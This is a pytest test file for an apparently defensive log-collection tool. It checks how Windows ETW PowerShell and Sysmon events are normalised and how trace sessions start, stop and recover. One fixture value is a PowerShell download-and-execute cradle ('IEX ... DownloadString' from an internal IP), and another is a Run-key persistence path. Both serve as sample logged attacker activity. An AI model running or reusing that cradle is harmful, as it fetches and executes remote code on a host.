"""ETW adapter (connectors/etw.py) and ETW normalisation (connectors/winevent.py), with the
fake pywintrace in tests/fakes replaying recorded callback values."""
from __future__ import annotations

import sys
import threading

import pytest

import fakes
from fakes import wait_until
from sigstream.connectors.etw import KNOWN_PROVIDERS, SESSION_NAME, EtwSource, EtwUnavailable, load_etw
from sigstream.connectors.winevent import filetime_to_iso, normalize_etw, translate_registry_path
from fakes import recordings as R

HOST = "WKS-FIN-042.corp.example.com"


@pytest.fixture
def fake(monkeypatch):
    etw, _, _ = fakes.install(monkeypatch)
    return etw


def _source(fake_etw, providers=("powershell", "powershell-core"), emit=None):
    got: list = []
    src = EtwSource([KNOWN_PROVIDERS[p] for p in providers], emit or got.append, HOST)
    return src, got


# ---------------------------------------------------------------- normalisation --

def test_4104_normalised_field_by_field():
    ev = normalize_etw(R.ETW_PS_4104, HOST)
    assert ev == {
        "EventID": 4104,
        "Channel": "Microsoft-Windows-PowerShell/Operational",
        "Provider_Name": "Microsoft-Windows-PowerShell",
        "Provider_Guid": "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
        "Computer": HOST,
        "TimeCreated": "2026-11-24T09:11:45.412345Z",
        "Version": 1, "Level": 5, "Task": 2, "Opcode": 15, "Keywords": "0x0",
        "Execution_ProcessID": 4556, "Execution_ThreadID": 6992,
        "Correlation_ActivityID": "{4D3F6A51-0C1B-0002-9B1D-3F4D1B0CDB01}",
        "MessageNumber": 1, "MessageTotal": 1,
        "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
        "ScriptBlockId": "7f0b2a8e-3c1d-4b8e-9a51-2f6c0d9e4b11",
        "Path": "",
        "Security_UserID": "S-1-5-21-1004336348-1177238915-682003330-1104",
    }
    # the recording itself is untouched (values stay strings there)
    assert R.ETW_PS_4104[1]["MessageNumber"] == "1"


def test_etw_and_event_log_renderings_of_the_same_4104_agree():
    from sigstream.connectors.winevent import parse_event_xml
    live = normalize_etw(R.ETW_PS_4104, HOST)
    logged = parse_event_xml(R.XML_PS_4104)
    # the one document, but for the record id only the event log has
    assert live == {k: v for k, v in logged.items() if k != "EventRecordID"}


def test_4103_and_powershell_core_channels():
    ev = normalize_etw(R.ETW_PS_4103, HOST)
    assert (ev["EventID"], ev["Channel"], ev["Level"], ev["Task"], ev["Opcode"]) == (
        4103, "Microsoft-Windows-PowerShell/Operational", 4, 106, 20)
    assert ev["Payload"].startswith("CommandInvocation(Invoke-WebRequest)")
    assert "ContextInfo" in ev and ev["UserData"] == ""
    assert "Correlation_ActivityID" not in ev          # the all-zero GUID is no activity
    core = normalize_etw(R.ETW_PSCORE_4104, HOST)
    assert core["Channel"] == "PowerShellCore/Operational"
    assert core["Provider_Name"] == "PowerShellCore"
    assert core["Execution_ProcessID"] == 9120


def test_sysmon_etw_registry_path_translated_and_ints():
    ev = normalize_etw(R.ETW_SYSMON_13, HOST)
    assert ev["TargetObject"] == "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"
    assert ev["Channel"] == "Microsoft-Windows-Sysmon/Operational"
    assert ev["ProcessId"] == 7312 and ev["Keywords"] == "0x8000000000000000"
    assert ev["UtcTime"] == "2026-11-24 09:12:00.250"          # payload times stay as logged
    assert ev["TimeCreated"] == "2026-11-24T09:12:00.250000Z"


def test_bare_out_dict_accepted_and_garbage_rejected():
    assert normalize_etw(R.ETW_PS_4104[1], HOST)["EventID"] == 4104
    from sigstream.connectors.normalize import NormalizeError
    with pytest.raises(NormalizeError):
        normalize_etw({"no": "header"}, HOST)


@pytest.mark.parametrize("raw,expected", [
    ("\\REGISTRY\\MACHINE\\SOFTWARE\\X", "HKLM\\SOFTWARE\\X"),
    ("\\Registry\\Machine\\SYSTEM\\CurrentControlSet", "HKLM\\SYSTEM\\CurrentControlSet"),
    ("\\REGISTRY\\USER\\S-1-5-21-1-2-3-1104\\Software\\Run", "HKU\\S-1-5-21-1-2-3-1104\\Software\\Run"),
    ("\\REGISTRY\\USER\\S-1-5-21-1-2-3-1104_Classes\\CLSID", "HKU\\S-1-5-21-1-2-3-1104_Classes\\CLSID"),
    ("\\REGISTRY\\MACHINE", "HKLM"),
    ("HKEY_LOCAL_MACHINE\\SOFTWARE\\X", "HKLM\\SOFTWARE\\X"),
    ("HKEY_CURRENT_USER\\Software\\X", "HKCU\\Software\\X"),
    ("HKLM\\SOFTWARE\\X", "HKLM\\SOFTWARE\\X"),
    ("C:\\Windows\\regedit.exe", "C:\\Windows\\regedit.exe"),
    ("", ""), (None, None), (5, 5),
])
def test_translate_registry_path(raw, expected):
    assert translate_registry_path(raw) == expected


def test_filetime():
    assert filetime_to_iso(R.FT_1) == "2026-11-24T09:11:45.412345Z"
    assert filetime_to_iso(str(R.FT_1)) == "2026-11-24T09:11:45.412345Z"
    assert filetime_to_iso(116444736000000000) == "1970-01-01T00:00:00.000000Z"
    assert filetime_to_iso("garbage") == "garbage" and filetime_to_iso(0) == 0


# ---------------------------------------------------------------- lazy import --

def test_load_etw_reports_attribute_error_as_unavailable(monkeypatch):
    # what `import etw` does on Linux: etw/evntrace.py touches ctypes.windll at import time
    def boom(name, *a):
        raise AttributeError("module 'ctypes' has no attribute 'windll'")
    monkeypatch.setattr("importlib.import_module", boom)
    with pytest.raises(EtwUnavailable, match="AttributeError"):
        load_etw()


def test_load_etw_reports_import_error_as_unavailable(monkeypatch):
    monkeypatch.setitem(sys.modules, "etw", None)        # not installed
    with pytest.raises(EtwUnavailable, match="ImportError|ModuleNotFoundError"):
        load_etw()


def test_importing_the_adapter_does_not_import_etw(monkeypatch):
    monkeypatch.delitem(sys.modules, "etw", raising=False)
    import importlib
    import sigstream.connectors.etw as mod
    importlib.reload(mod)
    assert "etw" not in sys.modules


# ---------------------------------------------------------------- session hygiene --

def test_fixed_session_name_and_events_delivered(fake):
    fake.RECORDINGS.extend(R.ETW_ALL)
    src, got = _source(fake)
    src.start()
    try:
        assert list(fake.SESSIONS) == [SESSION_NAME]
        assert wait_until(lambda: fake.running_sessions() and fake.running_sessions()[0].replayed.is_set())
        # PowerShell (4104 x4, 4103) and PowerShellCore; the Sysmon record is not subscribed
        assert [(e["Provider_Name"], e["EventID"]) for e in got] == [
            ("Microsoft-Windows-PowerShell", 4104)] * 4 + [("Microsoft-Windows-PowerShell", 4103),
                                                          ("PowerShellCore", 4104)]
        assert all(e["Computer"] == HOST for e in got)
    finally:
        src.stop()
    assert fake.SESSIONS == {}


def test_provider_level_and_event_id_filters_passed(fake):
    src, _ = _source(fake)
    src.start()
    try:
        job = fake.running_sessions()[0]
        levels = {p.name: p.level for p in job.providers}
        assert levels == {"Microsoft-Windows-PowerShell": 5, "PowerShellCore": 5}   # Verbose for 4104
        assert job.ignore_exists_error is False
        assert job.providers_event_id_filters["{A0C1853B-5C40-4B15-8766-3CF1C58F985A}"] == [4103, 4104]
    finally:
        src.stop()


def test_providers_enabled_with_the_user_sid(fake):
    fake.RECORDINGS.append(R.ETW_PS_4104)
    src, got = _source(fake)
    src.start()
    try:
        job = fake.running_sessions()[0]
        assert all(p.params.contents.EnableProperty & fake.EVENT_ENABLE_PROPERTY_SID for p in job.providers)
        assert len({id(p.params) for p in job.providers}) == len(job.providers)   # one each
        assert wait_until(lambda: got)
        assert got[0]["Security_UserID"] == "S-1-5-21-1004336348-1177238915-682003330-1104"
    finally:
        src.stop()
    # as ETW does: a provider enabled without the property gets no SID
    seen: list = []
    bare = fake.ETW(providers=[fake.ProviderInfo("ps", fake.GUID(R.PS_GUID), 5)], event_callback=seen.append)
    bare.deliver(R.ETW_PS_4104)
    assert "Security_UserID" not in normalize_etw(seen[0], HOST)


def test_orphan_session_stopped_before_start(fake):
    fake.orphan(SESSION_NAME, events_lost=7)
    src, _ = _source(fake)
    src.start()
    try:
        calls = [c for c in fake.CALLS if c[1] == SESSION_NAME]
        assert calls[0] == ("control_stop", SESSION_NAME)
        assert calls[1] == ("start", SESSION_NAME)
        assert src.stats()["orphans_stopped"] == 1
        assert fake.running_sessions()                      # ours, freshly started
    finally:
        src.stop()
    assert SESSION_NAME not in fake.SESSIONS


def test_no_orphan_no_stop_count(fake):
    src, _ = _source(fake)
    src.start()
    src.stop()
    assert src.stats()["orphans_stopped"] == 0


def test_stop_called_on_shutdown(fake):
    src, _ = _source(fake)
    src.start()
    src.stop()
    assert ("stop", SESSION_NAME) in fake.CALLS
    assert fake.SESSIONS == {}
    assert src.running is False


def test_failed_start_stops_the_half_started_session(fake):
    fake.FAIL_ENABLE = True                 # StartTraceW succeeded, EnableTraceEx2 failed
    src, _ = _source(fake)
    with pytest.raises(OSError):
        src.start()
    assert ("stop", SESSION_NAME) in fake.CALLS
    assert fake.SESSIONS == {}, "the session must not leak"
    assert src.running is False


def test_failing_pywintrace_stop_still_stops_the_session_by_name(fake):
    src, _ = _source(fake)
    src.start()
    fake.FAIL_PROVIDER_STOP = True
    src.stop()
    assert fake.SESSIONS == {}
    assert fake.CALLS[-1] == ("control_stop", SESSION_NAME)


def test_error_in_callback_consumer_does_not_kill_the_session(fake):
    fake.RECORDINGS.extend([R.ETW_PS_4104, (4104, {"EventHeader": {"ProviderId": R.PS_GUID,
                                                                    "EventDescriptor": {"Id": "x"}}}),
                            R.ETW_PS_4103])
    got: list = []
    from sigstream.connectors.etw import EtwProvider
    src = EtwSource([EtwProvider("Microsoft-Windows-PowerShell", R.PS_GUID, 5)], got.append, HOST)
    src.start()
    try:
        assert wait_until(lambda: fake.running_sessions()[0].replayed.is_set())
        assert [e["EventID"] for e in got] == [4104, 4103]
        assert src.stats()["parse_errors"] == 1
        assert not [c for c in fake.CALLS if c[0] == "callback_error"]
    finally:
        src.stop()


def test_events_lost_exposed_and_session_restarted_when_stopped_outside(fake):
    src, _ = _source(fake)
    src.start()
    try:
        fake.SESSIONS[SESSION_NAME].events_lost = 12
        fake.SESSIONS[SESSION_NAME].realtime_buffers_lost = 2
        src.check()
        st = src.stats()
        assert (st["events_lost"], st["realtime_buffers_lost"]) == (12, 2)
        # someone runs `logman stop sigstream-etw -ets`
        fake.ControlTraceW(0, SESSION_NAME, fake.TraceProperties().get(), fake.EVENT_TRACE_CONTROL_STOP)
        src.check()
        assert SESSION_NAME in fake.SESSIONS and src.stats()["restarts"] == 1
        assert src.stats()["events_lost"] == 12               # earlier losses are kept
        fake.SESSIONS[SESSION_NAME].events_lost = 3
        src.check()
        assert src.stats()["events_lost"] == 15
    finally:
        src.stop()
    assert fake.SESSIONS == {}


def test_slow_emit_runs_on_the_consumer_thread(fake):
    fake.RECORDINGS.append(R.ETW_PS_4104)
    seen = []
    src, _ = _source(fake, emit=lambda ev: seen.append(threading.current_thread().name))
    src.start()
    try:
        assert wait_until(lambda: seen)
        assert seen[0] != threading.main_thread().name
    finally:
        src.stop()


@pytest.mark.windows
def test_real_pywintrace_session_roundtrip():   # pragma: no cover - needs Windows + admin
    got = []
    src = EtwSource([KNOWN_PROVIDERS["powershell"]], got.append, HOST)
    src.start()
    try:
        import subprocess
        subprocess.run(["powershell.exe", "-NoProfile", "-Command", "Write-Output sigstream-etw-test"], check=True)
        assert wait_until(lambda: any("sigstream-etw-test" in str(e.get("ScriptBlockText")) for e in got), 20)
    finally:
        src.stop()
